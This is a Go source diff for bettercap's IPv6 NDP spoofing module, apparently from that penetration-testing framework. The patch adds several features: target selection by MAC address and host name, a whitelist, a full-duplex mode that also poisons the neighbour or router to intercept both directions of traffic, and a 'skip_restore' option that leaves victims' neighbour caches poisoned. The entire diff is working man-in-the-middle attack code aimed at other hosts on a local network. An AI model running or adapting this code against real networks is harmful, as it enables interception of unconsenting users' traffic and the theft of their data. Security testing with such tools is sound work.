@@ -1,14 +1,18 @@
 package ndp_spoof
 
 import (
+	"bytes"
 	"fmt"
-	"github.com/bettercap/bettercap/packets"
-	"github.com/evilsocket/islazy/str"
 	"net"
+	"strings"
 	"sync"
 	"time"
 
+	"github.com/bettercap/bettercap/network"
+	"github.com/bettercap/bettercap/packets"
 	"github.com/bettercap/bettercap/session"
+
+	"github.com/evilsocket/islazy/str"
 )
 
 type NDPSpoofer struct {
@@ -17,6 +21,13 @@ type NDPSpoofer struct {
 	prefix       string
 	prefixLength int
 	addresses    []net.IP
+	macs         []net.HardwareAddr
+	names        []string
+	wAddresses   []net.IP
+	wMacs        []net.HardwareAddr
+	wNames       []string
+	fullDuplex   bool
+	skipRestore  bool
 	ban          bool
 	waitGroup    *sync.WaitGroup
 }
@@ -25,6 +36,13 @@ func NewNDPSpoofer(s *session.Session) *NDPSpoofer {
 	mod := &NDPSpoofer{
 		SessionModule: session.NewSessionModule("ndp.spoof", s),
 		addresses:     make([]net.IP, 0),
+		macs:          make([]net.HardwareAddr, 0),
+		names:         make([]string, 0),
+		wAddresses:    make([]net.IP, 0),
+		wMacs:         make([]net.HardwareAddr, 0),
+		wNames:        make([]string, 0),
+		fullDuplex:    false,
+		skipRestore:   false,
 		ban:           false,
 		waitGroup:     &sync.WaitGroup{},
 	}
@@ -32,7 +50,10 @@ func NewNDPSpoofer(s *session.Session) *NDPSpoofer {
 	mod.SessionModule.Requires("net.recon")
 
 	mod.AddParam(session.NewStringParameter("ndp.spoof.targets", "", "",
-		"Comma separated list of IPv6 victim addresses."))
+		"Comma separated list of IPv6 addresses, MAC addresses, aliases or host names to spoof, MAC addresses and names are resolved to the IPv6 addresses of the discovered endpoints."))
+
+	mod.AddParam(session.NewStringParameter("ndp.spoof.whitelist", "", "",
+		"Comma separated list of IPv6 addresses, MAC addresses, aliases or host names to skip while spoofing."))
 
 	mod.AddParam(session.NewStringParameter("ndp.spoof.neighbour",
 		"fe80::1",
@@ -45,6 +66,24 @@ func NewNDPSpoofer(s *session.Session) *NDPSpoofer {
 	mod.AddParam(session.NewIntParameter("ndp.spoof.prefix.length", "64",
 		"IPv6 prefix length for router advertisements."))
 
+	mod.AddParam(session.NewBoolParameter("ndp.spoof.fullduplex",
+		"false",
+		"If true, both the targets and the neighbour will be attacked, otherwise only the targets."))
+
+	noRestore := session.NewBoolParameter("ndp.spoof.skip_restore",
+		"false",
+		"If set to true, targets neighbour cache won't be restored and the spoofed router won't be withdrawn when spoofing is stopped.")
+
+	mod.AddObservableParam(noRestore, func(v string) {
+		if strings.ToLower(v) == "true" || v == "1" {
+			mod.skipRestore = true
+			mod.Warning("neighbour cache restoration after spoofing disabled")
+		} else {
+			mod.skipRestore = false
+			mod.Debug("neighbour cache restoration after spoofing enabled")
+		}
+	})
+
 	mod.AddHandler(session.NewModuleHandler("ndp.spoof on", "",
 		"Start NDP spoofer.",
 		func(args []string) error {
@@ -85,17 +124,51 @@ func (mod NDPSpoofer) Author() string {
 	return "Simone Margaritelli <evilsocket@gmail.com>"
 }
 
+// parse a list of IPv6 addresses, MAC addresses, aliases and names.
+func (mod *NDPSpoofer) parseTargets(targets string) (addresses []net.IP, macs []net.HardwareAddr, names []string, err error) {
+	others := make([]string, 0)
+	for _, target := range str.Comma(targets) {
+		if ip := net.ParseIP(target); ip == nil {
+			others = append(others, target)
+		} else if ip.To4() != nil {
+			return nil, nil, nil, fmt.Errorf("%s is not an IPv6 address", target)
+		} else {
+			addresses = append(addresses, ip)
+		}
+	}
+
+	aliases := mod.Session.Lan.Aliases()
+	rest, names := network.SplitTargetNames(strings.Join(others, ","), aliases)
+	if ips, macs, err := network.ParseTargets(rest, aliases); err != nil {
+		return nil, nil, nil, err
+	} else if len(ips) > 0 {
+		return nil, nil, nil, fmt.Errorf("%s is not an IPv6 address", ips[0])
+	} else {
+		return addresses, macs, names, nil
+	}
+}
+
 func (mod *NDPSpoofer) Configure() error {
 	var err error
-	var neigh, targets string
+	var neigh, targets, whitelist string
 
 	if err, targets = mod.StringParam("ndp.spoof.targets"); err != nil {
 		return err
+	} else if err, whitelist = mod.StringParam("ndp.spoof.whitelist"); err != nil {
+		return err
+	} else if err, mod.fullDuplex = mod.BoolParam("ndp.spoof.fullduplex"); err != nil {
+		return err
+	}
+
+	if mod.wAddresses, mod.wMacs, mod.wNames, err = mod.parseTargets(whitelist); err != nil {
+		return err
 	}
 
 	if targets == "" {
 		mod.neighbour = nil
 		mod.addresses = nil
+		mod.macs = nil
+		mod.names = nil
 	} else {
 		if err, neigh = mod.StringParam("ndp.spoof.neighbour"); err != nil {
 			return err
@@ -103,16 +176,12 @@ func (mod *NDPSpoofer) Configure() error {
 			return fmt.Errorf("can't parse neighbour address %s", neigh)
 		}
 
-		mod.addresses = make([]net.IP, 0)
-		for _, addr := range str.Comma(targets) {
-			if ip := net.ParseIP(addr); ip != nil {
-				mod.addresses = append(mod.addresses, ip)
-			} else {
-				return fmt.Errorf("can't parse ip %s", addr)
-			}
+		if mod.addresses, mod.macs, mod.names, err = mod.parseTargets(targets); err != nil {
+			return err
 		}
 
-		mod.Debug(" addresses=%v", mod.addresses)
+		mod.Debug(" addresses=%v macs=%v names=%v whitelisted-addresses=%v whitelisted-macs=%v whitelisted-names=%v",
+			mod.addresses, mod.macs, mod.names, mod.wAddresses, mod.wMacs, mod.wNames)
 	}
 
 	if err, mod.prefix = mod.StringParam("ndp.spoof.prefix"); err != nil {
@@ -144,7 +213,11 @@ func (mod *NDPSpoofer) Start() error {
 	}
 
 	return mod.SetRunning(true, func() {
-		mod.Info("ndp spoofer started - targets=%s neighbour=%s prefix=%s", mod.addresses, mod.neighbour, mod.prefix)
+		mod.Info("ndp spoofer started - targets=%s neighbour=%s prefix=%s", mod.targetsString(), mod.neighbour, mod.prefix)
+
+		if mod.fullDuplex {
+			mod.Warning("full duplex spoofing enabled, the neighbour will be told that the targets are us as well.")
+		}
 
 		mod.waitGroup.Add(1)
 		defer mod.waitGroup.Done()
@@ -153,7 +226,7 @@ func (mod *NDPSpoofer) Start() error {
 			if mod.prefix != "" {
 				mod.Debug("sending router advertisement for prefix %s(%d)", mod.prefix, mod.prefixLength)
 				err, ra := packets.ICMP6RouterAdvertisement(mod.Session.Interface.IPv6, mod.Session.Interface.HW,
-					mod.prefix,	uint8(mod.prefixLength))
+					mod.prefix, uint8(mod.prefixLength))
 				if err != nil {
 					mod.Error("error creating ra packet: %v", err)
 				} else if err = mod.Session.Queue.Send(ra); err != nil {
@@ -162,20 +235,7 @@ func (mod *NDPSpoofer) Start() error {
 			}
 
 			if mod.neighbour != nil {
-				for victimAddr, victimHW := range mod.getTargets(true) {
-					victimIP := net.ParseIP(victimAddr)
-
-					mod.Debug("we're saying to %s(%s) that %s is us(%s)",
-						victimIP, victimHW,
-						mod.neighbour,
-						mod.Session.Interface.HW)
-
-					if err, packet := packets.ICMP6NeighborAdvertisement(mod.Session.Interface.HW, mod.neighbour, victimHW, victimIP, mod.neighbour); err != nil {
-						mod.Error("error creating na packet: %v", err)
-					} else if err = mod.Session.Queue.Send(packet); err != nil {
-						mod.Error("error while sending na packet: %v", err)
-					}
-				}
+				mod.ndpSpoofTargets(mod.Session.Interface.HW, true)
 			}
 
 			time.Sleep(1 * time.Second)
@@ -183,14 +243,143 @@ func (mod *NDPSpoofer) Start() error {
 	})
 }
 
+func (mod *NDPSpoofer) unSpoof() {
+	if mod.skipRestore {
+		mod.Warning("neighbour cache restoration is disabled")
+		return
+	}
+
+	if mod.prefix != "" {
+		mod.Info("withdrawing router advertisement for prefix %s(%d)", mod.prefix, mod.prefixLength)
+		if err, ra := packets.ICMP6RouterWithdrawal(mod.Session.Interface.IPv6, mod.Session.Interface.HW,
+			mod.prefix, uint8(mod.prefixLength)); err != nil {
+			mod.Error("error creating ra packet: %v", err)
+		} else if err = mod.Session.Queue.Send(ra); err != nil {
+			mod.Error("error while sending ra packet: %v", err)
+		}
+	}
+
+	if mod.neighbour != nil {
+		if neighHW := mod.neighbourHW(); neighHW == nil {
+			mod.Warning("could not find the hardware address of %s, can't restore the targets neighbour cache", mod.neighbour)
+		} else {
+			mod.Info("restoring neighbour cache of %d targets.", len(mod.addresses)+len(mod.macs)+len(mod.names))
+			mod.ndpSpoofTargets(neighHW, false)
+		}
+	}
+}
+
 func (mod *NDPSpoofer) Stop() error {
 	return mod.SetRunning(false, func() {
 		mod.Info("waiting for NDP spoofer to stop ...")
-		mod.ban = false
 		mod.waitGroup.Wait()
+		mod.unSpoof()
+		mod.ban = false
 	})
 }
 
+func (mod *NDPSpoofer) targetsString() string {
+	targets := make([]string, 0)
+	for _, ip := range mod.addresses {
+		targets = append(targets, ip.String())
+	}
+	for _, hw := range mod.macs {
+		targets = append(targets, hw.String())
+	}
+	return strings.Join(append(targets, mod.names...), ", ")
+}
+
+// the real hardware address of the neighbour we're impersonating.
+func (mod *NDPSpoofer) neighbourHW() net.HardwareAddr {
+	if e := mod.Session.Lan.GetByIp(mod.neighbour.String()); e != nil {
+		return e.HW
+	} else if hw, err := mod.Session.FindMAC(mod.neighbour, false); err == nil {
+		return hw
+	}
+	return nil
+}
+
+// tell every target that the neighbour is at neighHW and, in full duplex mode,
+// tell the neighbour that every target is at the same address.
+func (mod *NDPSpoofer) ndpSpoofTargets(neighHW net.HardwareAddr, probe bool) {
+	var realNeighHW net.HardwareAddr
+	isSpoofing := bytes.Equal(neighHW, mod.Session.Interface.HW)
+	if mod.fullDuplex {
+		realNeighHW = mod.neighbourHW()
+	}
+
+	for victimAddr, victimHW := range mod.getTargets(probe) {
+		victimIP := net.ParseIP(victimAddr)
+		if isSpoofing && !mod.Running() {
+			return
+		} else if mod.isWhitelisted(victimAddr, victimHW) {
+			mod.Debug("%s (%s) is whitelisted, skipping from spoofing loop.", victimAddr, victimHW)
+			continue
+		}
+
+		mod.Debug("we're saying to %s(%s) that %s is %s", victimIP, victimHW, mod.neighbour, neighHW)
+
+		if err, packet := packets.ICMP6NeighborAdvertisement(neighHW, mod.neighbour, victimHW, victimIP, mod.neighbour); err != nil {
+			mod.Error("error creating na packet: %v", err)
+		} else if err = mod.Session.Queue.Send(packet); err != nil {
+			mod.Error("error while sending na packet: %v", err)
+		}
+
+		if realNeighHW != nil {
+			victimOrHW := victimHW
+			if isSpoofing {
+				victimOrHW = mod.Session.Interface.HW
+			}
+
+			mod.Debug("we're saying to %s(%s) that %s is %s", mod.neighbour, realNeighHW, victimIP, victimOrHW)
+
+			if err, packet := packets.ICMP6NeighborAdvertisement(victimOrHW, victimIP, realNeighHW, mod.neighbour, victimIP); err != nil {
+				mod.Error("error creating na packet: %v", err)
+			} else if err = mod.Session.Queue.Send(packet); err != nil {
+				mod.Error("error while sending na packet: %v", err)
+			}
+		}
+	}
+}
+
+func (mod *NDPSpoofer) isWhitelisted(ip string, mac net.HardwareAddr) bool {
+	for _, addr := range mod.wAddresses {
+		if ip == addr.String() {
+			return true
+		}
+	}
+
+	for _, hw := range mod.wMacs {
+		if bytes.Equal(hw, mac) {
+			return true
+		}
+	}
+
+	if len(mod.wNames) > 0 {
+		if e := mod.Session.Lan.GetByIp(ip); e != nil {
+			for _, name := range mod.wNames {
+				if e.HasName(name) {
+					return true
+				}
+			}
+		}
+	}
+
+	return false
+}
+
+// the IPv6 addresses of an endpoint, both global and link-local.
+func endpointIPv6(e *network.Endpoint) []string {
+	addrs := make([]string, 0)
+	if e.Ip6Address != "" {
+		addrs = append(addrs, e.Ip6Address)
+	}
+	if e.Ip6LinkLocal != "" && e.Ip6LinkLocal != e.Ip6Address {
+		addrs = append(addrs, e.Ip6LinkLocal)
+	}
+	return addrs
+}
+
 func (mod *NDPSpoofer) getTargets(probe bool) map[string]net.HardwareAddr {
 	targets := make(map[string]net.HardwareAddr)
 
@@ -200,12 +389,30 @@ func (mod *NDPSpoofer) getTargets(probe bool) map[string]net.HardwareAddr {
 			continue
 		}
 		// do we have this ip mac address?
-		if hw, err := mod.Session.FindMAC(ip, probe); err == nil {
+		if e := mod.Session.Lan.GetByIp(ip.String()); e != nil {
+			targets[ip.String()] = e.HW
+		} else if hw, err := mod.Session.FindMAC(ip, probe); err == nil {
 			targets[ip.String()] = hw
 		} else {
 			mod.Info("couldn't get MAC for ip=%s, put it into the neighbour table manually e.g. ping -6", ip)
 		}
 	}
+	// add targets specified by MAC address
+	for _, hw := range mod.macs {
+		if e, found := mod.Session.Lan.Get(hw.String()); found {
+			for _, addr := range endpointIPv6(e) {
+				targets[addr] = hw
+			}
+		}
+	}
+	// add targets specified by name, resolved every time as their address might change
+	for _, name := range mod.names {
+		for _, e := range mod.Session.Lan.FindByName(name) {
+			for _, addr := range endpointIPv6(e) {
+				targets[addr] = e.HW
+			}
+		}
+	}
 
 	return targets
 }